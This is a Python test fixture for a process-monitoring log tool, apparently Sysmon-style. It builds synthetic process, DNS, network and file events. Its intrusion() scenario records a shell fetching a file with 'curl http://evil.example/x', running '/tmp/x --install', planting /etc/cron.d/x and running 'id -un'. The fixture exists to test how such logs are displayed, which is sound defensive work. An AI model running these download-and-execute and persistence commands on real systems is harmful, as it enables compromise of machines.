"""A made-up machine for the tests of views and reading commands: entries of processes, in order, with times."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

from tests.formats.entries import any_event

from pysmon.schema import catalogue
from pysmon.schema.entry import Entry, Origin
from pysmon.schema.event import Event
from pysmon.views.words import Line

START = datetime(2026, 11, 21, 8, 15, tzinfo=UTC)
_ORIGIN = Origin("vm", 1, 1, 0)


def guid(pid: int, program: int = 1) -> str:
    """The guid of a program of a process; all programs of a process share the second in which it was made."""
    return f"{{b635b3db-{pid:04x}-6b01-{program:04x}-{pid:012x}}}"


def line_text(line: Line) -> str:
    return "".join(piece.text for piece in line.pieces)


class Cast:
    """Writes the entries of processes; every deed is 0.1 s after the one before."""

    def __init__(self, user: str = "joe") -> None:
        self.entries: list[Entry[Event]] = []
        self.user = user
        self._now = START
        self._names: dict[str, str] = {}

    def wait(self, seconds: float) -> None:
        self._now += timedelta(seconds=seconds)

    def run(self, pid: int, command: str, by: int = 1, *, program: int = 1, by_program: int = 1, **more: Any) -> None:
        """A process runs a program, as a child of another or as its next one."""
        image = more.pop("Image", f"/usr/bin/{command.split()[0]}")
        parent = guid(by, by_program)
        self._names[guid(pid, program)] = image
        known = {"Image": image, "CommandLine": command, "User": self.user, "CurrentDirectory": "/home/joe"}
        above = {
            "ParentProcessGuid": parent,
            "ParentProcessId": by,
            "ParentImage": self._names.get(parent, "/sbin/init"),
        }
        ids = {"ProcessGuid": guid(pid, program), "ProcessId": pid, "ParentUser": self.user}
        self.add(catalogue.ProcessCreate, None, **{**known, **above, **ids, **more})

    def do(
        self, kind: type[Event], pid: int, *, program: int = 1, extra: dict[str, object] | None = None, **values: Any
    ) -> None:
        """A process does something."""
        actor = guid(pid, program)
        image = self._names.get(actor, "-")
        self.add(kind, extra, **{"ProcessGuid": actor, "ProcessId": pid, "Image": image, "User": self.user, **values})

    def end(self, pid: int, code: int = 0, *, program: int = 1) -> None:
        self.do(catalogue.ProcessTerminate, pid, program=program, extra={"ExitCode": code})

    def connect(self, pid: int, ip: str, port: int = 443, **more: Any) -> None:
        ends = {"SourceIp": "10.0.0.2", "SourcePort": 40000, "DestinationIp": ip, "DestinationPort": port}
        self.do(catalogue.NetworkConnect, pid, **{"Protocol": "tcp", "Initiated": True, **ends, **more})

    def create(self, pid: int, path: str, **more: Any) -> None:
        self.do(catalogue.FileCreate, pid, TargetFilename=path, **more)

    def add(self, kind: type[Event], extra: dict[str, object] | None = None, **values: Any) -> None:
        """An entry of any kind, at the next moment."""
        self._now += timedelta(milliseconds=100)
        time = self._now.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
        event = any_event(kind.type, **{"UtcTime": time, **values})
        event.extra = extra
        ns = int(self._now.timestamp() * 1000) * 1_000_000
        self.entries.append(Entry(len(self.entries), ns, event, _ORIGIN))


def intrusion() -> Cast:
    """A shell that downloads a program and runs it; one child fails."""
    cast = Cast()
    cast.run(100, "bash -l")
    cast.run(101, "env curl http://evil.example/x", by=100, Image="/usr/bin/env")
    cast.run(101, "curl http://evil.example/x", by=100, program=2)
    cast.do(catalogue.DnsQuery, 101, program=2, QueryName="evil.example", QueryStatus="0", QueryResults="192.0.2.1;")
    cast.connect(101, "192.0.2.1", 443, ProcessGuid=guid(101, 2), Image="/usr/bin/curl")
    cast.create(101, "/tmp/x", ProcessGuid=guid(101, 2), Image="/usr/bin/curl")
    cast.end(101, program=2)
    cast.run(102, "/tmp/x --install", by=100, Image="/tmp/x", Hashes="MD5=00ff,SHA256=aa11")
    cast.create(102, "/etc/cron.d/x", extra={"How": "renamed"})
    cast.run(103, "id -un", by=102)
    cast.end(103)
    cast.end(102, 1)
    cast.end(100)
    return cast
